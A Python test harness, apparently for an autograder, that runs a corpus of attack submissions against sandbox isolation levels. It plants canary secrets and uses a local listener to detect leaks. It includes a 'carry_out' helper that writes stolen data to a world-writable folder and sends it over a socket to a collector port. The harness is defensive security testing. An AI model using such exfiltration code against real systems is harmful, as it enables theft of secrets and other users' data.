"""The corpus of attacks: submissions that try one thing each, and what became of it.

A file of `tests/attacks/` begins with a header of comments in TOML, which says what is tried, what
it must be reported as, and which rungs must stop it; below stands what is added to a module. To be
fair to the attacker, a file knows where everything lies: in its text, words such as @SOLUTION@ are
replaced by real paths. Canaries, secret words of this run, are in every file that may not be read.
"""

import contextlib
import ctypes
import json
import multiprocessing
import os
import secrets
import shutil
import socket
import tempfile
import threading
import time
import tomllib
from collections.abc import Iterator, Mapping, Sequence
from concurrent.futures import Executor, ProcessPoolExecutor
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

from autograder.classroom.intake import files as intake
from autograder.grading import oracle, rehearsal, retelling, submission, suite, under_pytest
from autograder.grading.result import Result
from autograder.grading.task import Task
from autograder.lessons import assemble, manifest, places, skeleton
from autograder.lessons.manifest import Exercise, Lesson
from autograder.lessons.problem import Problem
from autograder.sandbox import isolation, session


@dataclass(frozen=True)
class Attack:
    """One file of the corpus; the fields are those of its header."""

    name: str
    body: str
    title: str
    tries: str
    lesson: str = "jvp"
    # "module": the body is added to a module. "folder": it is run by us, and makes the submission.
    kind: str = "module"
    # What replaces each stub, such as "return trick()"; of one exercise alone if
    # `only` is given, and then all others are done.
    answer: str = ""
    only: str = ""
    solved: bool = False  # the body is added to the reference, and deserves full points
    times: int = 1  # so often it is handed in; each submission may remember the ones before
    # What the result must say: the class of every exercise that is not done, if one is given, and
    # words of the remarks or of the review.
    reported: str = ""
    says: tuple[str, ...] = ()
    stops: tuple[str, ...] = isolation.LEVELS


def corpus() -> Path:
    """The folder of the attacks."""
    return places.ROOT / "tests" / "attacks"


def load() -> list[Attack]:
    """All attacks, sorted by name."""
    found = [_read(path) for path in sorted(corpus().glob("*.py"))]
    if not found:
        raise Problem(f"There are no attacks in {corpus()}. Use a whole copy of the repository.")
    return found


def _read(path: Path) -> Attack:
    lines = path.read_text(encoding="utf-8").splitlines()
    end = next((i for i, x in enumerate(lines) if not x.startswith("# ")), len(lines))
    about = tomllib.loads("\n".join(line.removeprefix("# ") for line in lines[:end]))
    for key in ("says", "stops"):
        if key in about:
            about[key] = tuple(about[key])
    return Attack(path.stem, "\n".join(lines[end:]) + "\n", **about)


# ------------------------------------------------------------------------------------------
# The scene of the crime


@dataclass
class Scene:
    """Everything that an attack might want, with canaries in it, and what it managed to take."""

    folder: Path
    beside: Executor  # a second grader, which knows nothing of the scene
    canaries: dict[str, str] = field(default_factory=dict)
    caught: list[bytes] = field(default_factory=list)  # what came by the network
    words: dict[str, str] = field(default_factory=dict)  # "@SOLUTION@" -> where it lies
    planted: dict[str, bytes | None] = field(default_factory=dict)  # contents, by their words
    state: list[Any] = field(default_factory=list)  # of files and of this process, before
    memory: int = 0  # that this process held before
    mark: str = field(default_factory=lambda: f"jxp{secrets.token_hex(5)}")

    def canary(self, place: str) -> str:
        """A secret word of this run for this place."""
        return self.canaries.setdefault(place, f"canary{secrets.token_hex(12)}")


@contextlib.contextmanager
def scene() -> Iterator[Scene]:
    """Plant the canaries, open a port, and shorten the time limits, for as long as this lasts."""
    # From here on this process maps the libraries' pages, which count as memory that it holds.
    list(map(isolation.detect, isolation.LEVELS))
    with contextlib.ExitStack() as stack:
        folder = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="jaxprentice-")))
        folder.chmod(0o755)
        spawn = multiprocessing.get_context("spawn")
        made = Scene(folder, stack.enter_context(ProcessPoolExecutor(1, spawn)))
        for part in (_plant_edition, _plant_files, _plant_process, _listen, _read_letters, _hurry):
            stack.enter_context(part(made))
        made.planted = {word: _content(made, word) for word in _PLANTED}
        yield made


@contextlib.contextmanager
def _plant_edition(made: Scene) -> Iterator[None]:
    """A copy of solutions and suites with canaries in the lesson that is graded."""
    before = {name: getattr(places, name) for name in ("SOLUTIONS", "SUITES")}
    for name, path in before.items():
        copy = made.folder / name.lower()
        shutil.copytree(path, copy, ignore=shutil.ignore_patterns("__pycache__"))
        setattr(places, name, copy)
    lesson = manifest.get("jvp")
    solution, suite = places.SOLUTIONS / lesson.module, places.SUITES / "jvp.py"
    for place, path in {"solution": solution, "suite": suite}.items():
        with path.open("a") as file:
            file.write(f"\n# {made.canary(place)}\n")
    made.words |= {"@SOLUTION@": str(solution), "@SUITE@": str(suite)}
    made.words["@SOLUTIONS@"] = str(places.SOLUTIONS)
    try:
        yield
    finally:
        for name, path in before.items():
            setattr(places, name, path)
        _forget()


def _forget() -> None:
    """Let no oracle of this scene answer later."""
    oracle._close_oracles()
    for cached in (oracle.reference, oracle.variant, under_pytest.collected, rehearsal.rehearse):
        cached.cache_clear()


@contextlib.contextmanager
def _plant_files(made: Scene) -> Iterator[None]:
    """Another student's work, the gradebook, a place where anybody may write."""
    for place in ("other", "gradebook", "descriptor"):
        path = made.folder / place
        path.write_text(f"# {made.canary(place)}\n")
        made.words[f"@{place.upper()}@"] = str(path)
    drop = made.folder / "drop"
    drop.mkdir()
    drop.chmod(0o777)
    made.words |= {"@DROP@": str(drop), "@ROOT@": str(places.ROOT)}
    yield


@contextlib.contextmanager
def _plant_process(made: Scene) -> Iterator[None]:
    """Canaries in the grader's environment and memory, and an open file that others may inherit."""
    memory = ctypes.create_string_buffer(made.canary("memory").encode())
    made.words |= {"@PARENT@": str(os.getpid()), "@ADDRESS@": str(ctypes.addressof(memory))}
    made.words |= {"@MARK@": made.mark}
    os.environ["JAXPRENTICE_CANARY"] = made.canary("environment")
    file = os.open(made.words["@DESCRIPTOR@"], os.O_RDONLY)
    os.set_inheritable(file, True)
    try:
        yield
    finally:
        os.close(file)
        del os.environ["JAXPRENTICE_CANARY"]
        del memory


@contextlib.contextmanager
def _listen(made: Scene) -> Iterator[None]:
    """A port on this machine that takes what is sent to it."""
    server = socket.create_server(("127.0.0.1", 0))
    made.words["@PORT@"] = str(server.getsockname()[1])

    def serve() -> None:
        with contextlib.suppress(OSError):
            while True:
                connection, _ = server.accept()
                with connection:
                    connection.settimeout(1)
                    with contextlib.suppress(OSError):
                        made.caught.append(b"connected " + connection.recv(65536))

    threading.Thread(target=serve, daemon=True).start()
    try:
        yield
    finally:
        server.close()


@contextlib.contextmanager
def _read_letters(made: Scene) -> Iterator[None]:
    """A service that takes datagrams at a path where anybody may send them."""
    place = made.folder / "letters"
    made.words["@SOCKET@"] = str(place)
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as letters:
        letters.bind(str(place))
        place.chmod(0o777)

        def serve() -> None:
            with contextlib.suppress(OSError):
                while True:
                    made.caught.append(b"a letter " + letters.recv(65536))

        threading.Thread(target=serve, daemon=True).start()
        yield


@contextlib.contextmanager
def _hurry(made: Scene) -> Iterator[None]:
    """Time limits that suit attacks which do nothing but wait."""
    limits = {"LEAST_SECONDS": 0.7, "IMPORT_SECONDS": 4.0, "BUDGET_SECONDS": 20.0}
    limits |= {"PATIENCE": 4.0, "AGAIN": 2.0, "PAUSES": 3.0}
    with contextlib.ExitStack() as undo:
        for name, value in limits.items():
            undo.callback(setattr, session, name, getattr(session, name))
            setattr(session, name, value)
        undo.callback(setattr, retelling, "SEARCH_SECONDS", retelling.SEARCH_SECONDS)
        retelling.SEARCH_SECONDS = 2.0
        yield


# ------------------------------------------------------------------------------------------
# One attempt

MOST_SECONDS = 60.0  # that a submission may keep the grader busy for, with the limits of a scene
MOST_MEMORY = 400 << 20  # bytes that the grader may need for a submission


def attempt(attack: Attack, level: str, made: Scene, followed: bool = True) -> list[str]:
    """Grade an attack on a rung: what went wrong, for us; nothing if it was stopped.

    `followed`: honest work is graded by a second grader meanwhile, and by the same one afterwards;
    both times it must have full points.
    """
    _clean(made)
    lesson = manifest.get(attack.lesson)
    beside = made.beside.submit(_honest, lesson.id, level) if followed else None
    begin = time.monotonic()
    try:
        results = [_graded(attack, lesson, level, made) for _ in range(attack.times)]
    except suite.SuiteError as error:
        return [f"it stops the grading of a whole class: {error}"]
    seconds = (time.monotonic() - begin) / attack.times
    result = max(results, key=lambda one: one["score"])
    faults = [*_earned(attack, lesson, result), *_leaked(result, made), *_harmed(made)]
    if seconds > MOST_SECONDS and (again := _seconds(attack, lesson, level, made)) > MOST_SECONDS:
        faults.append(f"it keeps the grader busy for {min(seconds, again):.0f} seconds")
    if beside is not None:
        faults += _spoilt("the submission beside it", beside.result())
        faults += _spoilt("the next submission", _honest(lesson.id, level))
    return [*faults, *_misreported(attack, result)]


def _seconds(attack: Attack, lesson: Lesson, level: str, made: Scene) -> float:
    """How long it takes once more: a slow disk or a busy machine may have cost the time before."""
    begin = time.monotonic()
    _graded(attack, lesson, level, made)
    return time.monotonic() - begin


def _honest(name: str, level: str) -> Result:
    """What honest work in a lesson gets; in this process or in another."""
    lesson = manifest.get(name)
    source = assemble.read_solution(lesson.module).encode()
    return submission.grade(Task.of(lesson, source, level))


def _spoilt(who: str, result: Result) -> Iterator[str]:
    if result["score"] != result["max_score"]:
        yield f"{who} gets {result['score']} of {result['max_score']} points"


def _graded(attack: Attack, lesson: Lesson, level: str, made: Scene) -> Result:
    source: bytes | None
    if attack.kind == "module":
        source, reason = made_module(attack, lesson, made.words).encode(), ""
    else:
        source, reason = _taken(attack, lesson, made)
    result = submission.grade(Task.of(lesson, source, level), only=attack.only or None)
    return {**result, "remarks": [*filter(None, [reason]), *result["remarks"]]}


def made_module(attack: Attack, lesson: Lesson, words: Mapping[str, str]) -> str:
    """The module that an attack hands in."""
    text = assemble.read_solution(lesson.module)
    text = "\n".join(line for line in text.splitlines() if not line.startswith("# canary")) + "\n"
    if not attack.solved:
        text = skeleton.make_skeleton(text, replace(lesson, exercises=_undone(attack, lesson)))
    if attack.answer:
        for exercise in _undone(attack, lesson):
            text = text.replace(f'raise NotImplementedError("{exercise.id}")', attack.answer)
    return _filled(f"{text}\n{CARRY if 'carry_out' in attack.body else ''}\n{attack.body}", words)


def _undone(attack: Attack, lesson: Lesson) -> tuple[Exercise, ...]:
    """The exercises that the attack has not done."""
    if attack.solved:
        return ()
    return tuple(e for e in lesson.exercises if attack.only in ("", e.id))


# For attacks that have found something: every way out that one could think of.
CARRY = '''
def carry_out(loot):
    """Say it, write it, send it, and return it."""
    import os, socket, sys
    loot = loot.decode("utf-8", "replace") if isinstance(loot, bytes) else str(loot)
    print(loot)
    print(loot, file=sys.stderr)
    try:
        with open("@DROP@/loot", "a") as file:
            file.write(loot)
    except OSError:
        pass
    try:
        with socket.create_connection(("127.0.0.1", @PORT@), timeout=1) as line:
            line.sendall(loot.encode())
    except OSError:
        pass
    return loot
'''


def _filled(text: str, words: Mapping[str, str]) -> str:
    for word, value in words.items():
        text = text.replace(word, value)
    return text


def _taken(attack: Attack, lesson: Lesson, made: Scene) -> tuple[bytes | None, str]:
    """What intake takes from a folder that the attack's body has filled."""
    inbox = made.folder / "inbox"
    folder = inbox / "eve"
    folder.mkdir(parents=True)
    module = assemble.read_solution(lesson.module)
    known = {"folder": folder, "name": lesson.module, "solution": module, "drop": Path()}
    exec(compile(_filled(attack.body, made.words), attack.name, "exec"), known)
    ((_, source, reason),) = intake.submissions(inbox, lesson)
    return source, reason


def _clean(made: Scene) -> None:
    """Put everything back, also what the attack before has changed."""
    import resource

    made.caught.clear()
    shutil.rmtree(made.folder / "inbox", ignore_errors=True)
    for path in Path(made.words["@DROP@"]).iterdir():
        shutil.rmtree(path) if path.is_dir() else path.unlink()
    for word, content in made.planted.items():
        path = Path(made.words[word])
        if content is not None and _content(made, word) != content:
            path.write_bytes(content)
        path.chmod(0o644)
    if made.state:
        resource.setrlimit(resource.RLIMIT_NOFILE, made.state[-2])
    made.state = _state(made)
    Path("/proc/self/clear_refs").write_text("5")  # forget the most memory held so far
    made.memory = _most_memory()


# --- what came of it ---


def _earned(attack: Attack, lesson: Lesson, result: Result) -> Iterator[str]:
    undone = {exercise.id for exercise in _undone(attack, lesson)}
    if lesson.whole and not attack.solved and not attack.only:
        undone.add(lesson.whole.id)
    for exercise in result["exercises"]:
        if exercise["id"] in undone and exercise["points"]:
            yield f"it earns {exercise['points']} points in {exercise['id']}"


def _leaked(result: Result, made: Scene) -> Iterator[str]:
    """Which canaries came out: in the result, in what a student reads, on the disk, by network."""
    found = json.dumps(result)
    drop = Path(made.words["@DROP@"])
    found += "".join(p.read_text(errors="replace") for p in drop.iterdir() if p.is_file())
    found += b"".join(made.caught).decode(errors="replace")
    for place, canary in made.canaries.items():
        if canary in found:
            yield f"it carries out the canary of {place}"
    if "<b>" in found or "\x1b" in found or "\\u001b" in found:
        yield "its own text is in the result"


def _harmed(made: Scene) -> Iterator[str]:
    """What is not as it was: files, connections, processes."""
    changed = [word for word in _PLANTED if _content(made, word) != made.planted[word]]
    for word in changed:
        yield f"it changes {word.strip('@').lower()}"
    if not changed and _state(made) != made.state:
        yield "it changes rights or times of files, or the grader's limits"
    if any(Path(made.words["@DROP@"]).iterdir()):
        yield "it writes outside its tree"
    if made.caught:
        yield "it reaches the network"
    if (held := _most_memory() - made.memory) > MOST_MEMORY:
        yield f"it makes the grader hold {held >> 20} MiB"
    end = time.monotonic() + 3
    while _alive(made.mark):
        if time.monotonic() > end:
            yield "a process of it lives on"
            return
        time.sleep(0.02)


def _most_memory() -> int:
    """The most memory that this process has held, in bytes."""
    lines = Path("/proc/self/status").read_text().splitlines()
    return next(int(line.split()[1]) << 10 for line in lines if line.startswith("VmHWM"))


def _state(made: Scene) -> list[Any]:
    """Rights, owners and times of what was planted; limits and priority of this process."""
    files = [Path(made.words[word]).stat() for word in _PLANTED]
    about = [(s.st_mode, s.st_uid, s.st_mtime_ns) for s in files]
    import resource

    limits = [resource.getrlimit(resource.RLIMIT_NOFILE), os.getpriority(os.PRIO_PROCESS, 0)]
    return [*about, *limits]


def _content(made: Scene, word: str) -> bytes | None:
    path = Path(made.words[word])
    return path.read_bytes() if path.is_file() else None


_PLANTED = ("@SOLUTION@", "@SUITE@", "@OTHER@", "@GRADEBOOK@")


def _alive(mark: str) -> bool:
    for name in Path("/proc").glob("[0-9]*/comm"):
        with contextlib.suppress(OSError):
            if name.read_text().strip() == mark:
                return True
    return False


def _misreported(attack: Attack, result: Result) -> Iterator[str]:
    """What the result should say of the attack, and does not."""
    undone = {exercise.id for exercise in _undone(attack, manifest.get(attack.lesson))}
    classes = {e["class"] for e in result["exercises"] if e["id"] in undone}
    if attack.reported and classes != {attack.reported}:
        yield f"reported: as {sorted(map(str, classes))} instead of {attack.reported!r}"
    said = " ".join([*result["remarks"], *result["review"]])
    for words in attack.says:
        if words not in said:
            yield f"reported: without {words!r}, but with {said!r}"


# ------------------------------------------------------------------------------------------
# The table


def examine(levels: Sequence[str] = (), every: int = 1) -> int:
    """Try attacks on every rung that this machine has; print a table, and what went wrong.

    Tried are all, or one in `every` so many. Returns how many findings there are: attacks that a
    rung should stop and does not, and reports that do not say what they should.
    """
    levels = levels or [level for level in isolation.LEVELS if isolation.detect(level) is None]
    attacks, findings = load()[::every], []
    width = max(len(attack.title) for attack in attacks)
    print(f"{'attack':<{width}}  {'  '.join(levels)}", flush=True)
    with scene() as made:
        for attack in attacks:
            faults = {level: attempt(attack, level, made) for level in levels}
            cells = [_cell(faults[level]).ljust(len(level)) for level in levels]
            print(f"{attack.title:<{width}}  {'  '.join(cells)}".rstrip(), flush=True)
            findings += [
                f"{attack.name}, {level}: {fault}"
                for level in levels
                if level in attack.stops
                for fault in faults[level]
            ]
    print(
        f"{len(findings)} findings:" if findings else "Every rung stops what it promises to stop."
    )
    print("".join(f"- {text}\n" for text in findings), end="")
    return len(findings)


def _cell(faults: Sequence[str]) -> str:
    return "stopped" if all(fault.startswith("reported") for fault in faults) else "succeeds"
